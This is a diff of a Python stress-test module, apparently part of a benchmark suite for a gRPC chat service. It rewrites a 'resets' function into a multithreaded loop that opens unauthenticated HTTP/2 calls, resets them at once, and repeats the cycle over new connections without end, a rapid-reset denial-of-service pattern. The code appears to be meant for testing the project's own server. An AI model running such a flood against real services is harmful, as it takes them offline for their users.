@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import argparse
+import contextlib
 import socket
+import threading
 import time
 from collections.abc import Callable
 from itertools import count
 
-from bench.attacks.raw import DeafConnection
+from bench.attacks.raw import DeafConnection, encode_resets, write_all
 from bench.performance.http2 import call_headers
 from chatbooth_grpc.booth.model import Session
 from chatbooth_grpc.client.chat_client import ChatClient
@@ -41,15 +43,19 @@ def deaf_grpc(address: str, token: bytes, streams: int, connections: int, method
 
 
 def resets(address: str, token: bytes, streams: int, connections: int, method: str) -> None:  # noqa: ARG001
-    """Open streams and reset each at once, as fast as the server reads."""
-    headers = call_headers(address, _SERVICE + method)
-    opened = [DeafConnection(address) for _ in range(connections)]
-    while True:
-        for number, each in enumerate(opened):
-            try:
-                each.call_and_reset(headers, b"", streams)
-            except OSError:
-                opened[number] = DeafConnection(address)
+    """Make calls without a token and reset each at once, on one new connection after another."""
+    written = encode_resets(call_headers(address, _SERVICE + method), b"", streams)
+
+    def write() -> None:
+        while True:
+            with contextlib.suppress(OSError):
+                write_all(address, written)
+
+    threads = [threading.Thread(target=write) for _ in range(connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
 
 
 def deaf_wire(address: str, token: bytes, streams: int, connections: int, method: str) -> None:
